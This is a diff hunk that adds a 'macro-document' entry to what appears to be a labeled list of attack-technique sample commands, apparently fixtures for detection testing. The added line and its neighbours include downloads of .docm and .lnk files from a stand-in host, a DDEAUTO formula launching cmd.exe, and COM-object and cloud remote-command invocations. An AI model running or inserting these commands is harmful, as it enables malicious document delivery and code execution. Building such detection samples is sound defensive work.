@@ -59,6 +59,7 @@ serverless: aws lambda create-function --function-name x
 cloud-command: aws ssm send-command --document-name x
 office-open: $w = New-Object -ComObject Word.Application
 document-download: Invoke-WebRequest http://example.test/a.lnk -OutFile a.lnk
+macro-document: iwr http://example.test/a.docm -OutFile a.docm
 click-fix: reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU
 com-object: [activator]::CreateInstance([type]::GetTypeFromCLSID('x'))
 dde: =DDEAUTO c:\windows\system32\cmd.exe
